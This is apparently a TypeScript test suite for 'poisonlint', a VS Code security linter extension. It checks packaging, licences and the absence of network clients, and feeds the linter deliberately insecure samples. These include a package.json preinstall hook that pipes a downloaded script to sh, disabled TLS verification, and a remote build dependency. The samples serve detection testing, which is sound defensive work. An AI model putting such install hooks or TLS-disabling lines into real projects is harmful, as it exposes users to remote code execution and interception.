import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { brief, startClient } from '../lsp/client.js';
import { makeFolder, type TemporaryFolder } from '../temporary.js';
import { ruleFolders } from '../tools/registry.js';
import { ROOT } from '../tools/root.js';
import { DEFAULT_SETTINGS } from '../../server/lsp/settings.js';
import { readRootManifest, type Manifest } from './manifest.js';
import { bundledPackages, licenceNotices } from './notices.js';
import { stageExtension } from './stage.js';

interface Command {
  readonly command: string;
}

interface Setting {
  readonly default: unknown;
  readonly description: string;
}

interface Contributions {
  readonly commands: readonly Command[];
  readonly menus: Readonly<Record<string, readonly Command[]>>;
  readonly configuration: { readonly properties: Readonly<Record<string, Setting>> };
  readonly walkthroughs: readonly {
    readonly steps: readonly { readonly id: string; readonly description: string; readonly media: Readonly<Record<string, string>> }[];
  }[];
}

function contributionsOf(manifest: Manifest): Contributions {
  return manifest['contributes'] as Contributions;
}

describe('the extension', () => {
  const root = readRootManifest(ROOT);
  const contributions = contributionsOf(root);
  let folder: TemporaryFolder;
  let files: readonly string[];

  before(async function () {
    this.timeout(120_000);
    folder = makeFolder();
    await stageExtension(folder.path);
    files = readdirSync(folder.path, { recursive: true, encoding: 'utf8' }).map((name) => name.replaceAll('\\', '/'));
  });
  after(() => folder.remove());

  it('has the settings of the one schema, with the same defaults, and asks for trust for all of them', () => {
    const { properties } = contributions.configuration;
    const expected = Object.fromEntries(Object.entries(DEFAULT_SETTINGS).map(([name, value]) => [`poisonlint.${name}`, value]));
    assert.deepEqual(Object.fromEntries(Object.entries(properties).map(([name, setting]) => [name, setting.default])), expected);
    for (const [name, { description }] of Object.entries(properties)) assert.match(description, /^[A-Z].*\.$/, name);
    const capabilities = root['capabilities'] as { readonly untrustedWorkspaces: { readonly restrictedConfigurations: readonly string[] } };
    assert.deepEqual(capabilities.untrustedWorkspaces.restrictedConfigurations, Object.keys(expected));
  });

  it('names only commands that it has, in menus and walkthrough', () => {
    const known = new Set(contributions.commands.map(({ command }) => command));
    const inMenus = Object.values(contributions.menus).flatMap((menu) => menu.map(({ command }) => command));
    const texts = contributions.walkthroughs.flatMap(({ steps }) => steps.map(({ description }) => description)).join('\n');
    const inTexts = [...texts.matchAll(/command:(poisonlint\.\w+)/g)].map(([, command = '']) => command);
    assert.ok(inMenus.length > 0 && inTexts.length > 0);
    for (const command of [...inMenus, ...inTexts]) assert.ok(known.has(command), command);
  });

  it('holds what its manifest names', () => {
    const manifest = JSON.parse(readFileSync(join(folder.path, 'package.json'), 'utf8')) as Manifest;
    const media = contributionsOf(manifest).walkthroughs.flatMap(({ steps }) => steps.flatMap((step) => Object.values(step.media)));
    const pictures = media.filter((name) => /\.(?:png|svg|md)$/.test(name));
    for (const name of [...pictures, String(manifest['main']).replace('./', ''), String(manifest['icon'])])
      assert.ok(files.includes(name), name);
    for (const key of ['files', 'exports', 'scripts', 'dependencies', 'devDependencies', 'type'])
      assert.equal(manifest[key], undefined, key);
    assert.deepEqual(manifest['engines'], { vscode: '^1.91.0' });
    assert.equal(manifest.version, root.version);
  });

  it('offers every rule where levels are set, and has its page', () => {
    const manifest = JSON.parse(readFileSync(join(folder.path, 'package.json'), 'utf8')) as Manifest;
    const levels = contributionsOf(manifest).configuration.properties['poisonlint.rules'] as Setting & { readonly properties: object };
    const rules = ruleFolders(ROOT);
    assert.deepEqual(
      Object.keys(levels.properties),
      rules.map(({ id }) => id),
    );
    for (const rule of rules) assert.ok(files.includes(`${rule.folder}/README.md`), rule.id);
  });

  it('holds only what runs, and its texts', () => {
    const odd = files.filter((name) => /\.(?:ts|map|py)$|node_modules|\/test\/|fixture/.test(name));
    assert.deepEqual(odd, []);
    for (const name of ['LICENSE', 'README.md', 'CHANGELOG.md', 'THIRD-PARTY-NOTICES.md']) assert.ok(files.includes(name), name);
  });

  it('gives the licence of everything that is in it', () => {
    const notices = readFileSync(join(folder.path, 'THIRD-PARTY-NOTICES.md'), 'utf8');
    const wanted = [
      'typescript',
      'web-tree-sitter',
      'tree-sitter-python',
      'vscode-languageclient',
      'vscode-languageserver',
      'vscode-jsonrpc',
      'zod',
    ];
    for (const name of wanted) assert.match(notices, new RegExp(`^## ${name} \\d`, 'm'));
    assert.match(notices, /Copyright \(c\) Microsoft Corporation/);
  });

  it('is not made where a package has no licence to give', () => {
    const bare = makeFolder();
    try {
      bare.write('node_modules/bare/package.json', '{ "name": "bare", "version": "1.0.0", "license": "MIT" }');
      const output = { inputs: { 'node_modules/bare/index.js': { bytesInOutput: 10 } }, bytes: 10, imports: [], exports: [] };
      const [found] = bundledPackages([{ inputs: {}, outputs: { 'out.js': output } }]);
      assert.equal(found, 'node_modules/bare');
      assert.throws(() => licenceNotices(bare.path, ['node_modules/bare']), /bare 1\.0\.0 comes without the text of a licence/);
    } finally {
      bare.remove();
    }
  });

  it('makes no connection: no client for the network is in its code', () => {
    const code = files
      .filter((name) => /^dist\/.*\.c?js$/.test(name))
      .map((name) => [name, readFileSync(join(folder.path, name), 'utf8')] as const);
    assert.ok(code.length > 5);
    // vscode-languageclient can speak over sockets (`net`), which nothing here asks for.
    for (const [name, text] of code)
      assert.doesNotMatch(text, /\b(?:require\(|from\s*)["'](?:node:)?(?:https?|http2|dgram|tls|dns)["']/, name);
  });

  it('finds with its bundled server what the package finds', async function () {
    this.timeout(60_000);
    const fixture = (name: string): string => readFileSync(join(ROOT, 'rules', name), 'utf8');
    // One of each way to read a text; each loads code of its own.
    const texts: readonly (readonly [uri: string, languageId: string, text: string])[] = [
      ['untitled:a', 'python', fixture('bypass/hardcoded-bypass/bad.py')],
      ['untitled:b', 'typescript', fixture('bypass/hardcoded-bypass/bad.ts')],
      ['untitled:c', 'javascript', fixture('payload/code-injection/bad.ts')],
      ['untitled:d', 'markdown', '# How to\n\n```python\nimport requests\nrequests.get(url, verify=False)\n```\n'],
      ['file:///shop/package.json', 'json', '{ "scripts": { "preinstall": "curl https://a.example/x.sh | sh" } }\n'],
      ['file:///shop/pyproject.toml', 'toml', '[build-system]\nrequires = ["tool @ https://files.example.invalid/tool.tar.gz"]\n'],
      // Nested more deeply than the thread's own stack can take: the thread with a large one is asked.
      [
        'untitled:e',
        'typescript',
        `const value = ${'('.repeat(6000)}1${')'.repeat(6000)};\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\n`,
      ],
    ];
    const reports = await Promise.all(
      [undefined, join(folder.path, 'dist/server/project/main.js')].map(async (program) => {
        const client = await startClient({ ...(program !== undefined && { program }), settings: () => ({ minSeverity: 'note' }) });
        const found: (readonly [string, readonly string[]])[] = [];
        for (const [uri, languageId, text] of texts) {
          client.open(uri, languageId, text);
          found.push([uri, (await client.published(uri)).diagnostics.map(brief)]);
        }
        assert.equal(await client.end(), 0);
        return found;
      }),
    );
    const [ofPackage, ofExtension] = reports;
    assert.deepEqual(ofExtension, ofPackage);
    for (const [uri, found] of ofExtension ?? []) assert.ok(found.length > 0, uri);
  });
});
